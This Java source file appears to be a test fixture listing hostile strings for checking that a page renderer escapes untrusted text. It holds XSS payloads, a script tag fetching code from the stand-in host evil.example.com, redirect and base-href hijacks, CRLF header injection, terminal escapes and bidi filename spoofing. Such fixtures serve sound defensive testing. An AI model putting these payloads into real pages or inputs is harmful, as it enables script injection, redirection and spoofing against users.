package dev.holdfast.page;

import java.util.List;
import java.util.stream.Stream;

/** What a container, a commit or a registry may say. */
final class Hostile {
  static final List<String> TEXTS =
      List.of(
          "<script>alert(1)</script>",
          "</pre></td></table><script src=//evil.example.com/x.js></script>",
          "\"><img src=x onerror=alert(1)>",
          "' autofocus onfocus='alert(1)",
          "javascript:alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "</title><svg onload=alert(1)>",
          "<!-- --><style>*{display:none}</style>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "<a href='https://evil.example.com'>sign in again</a>",
          "<meta http-equiv=refresh content='0;url=//evil.example.com'>",
          "<base href=//evil.example.com>",
          "\u001b[31mred\u001b[0m \u001b]0;owned\u0007",
          "\u202egnp.exe\u202c \u2066isolated\u2069",
          "null\u0000 bell\u0007 backspace\b\b\b",
          "line\u2028break\u2029\u0085",
          "\ud800 alone and \udc00 alone",
          "hidden\u200b\ufeff\u00ad \udb40\udc41tags",
          "]]><script>alert(1)</script>",
          "\r\nSet-Cookie: a=b\r\n\r\n<h1>",
          "%3Cscript%3E{{7*7}}${7*7}");

  private Hostile() {}

  static Stream<String> texts() {
    return TEXTS.stream();
  }

  static String all() {
    return String.join(" ", TEXTS);
  }
}
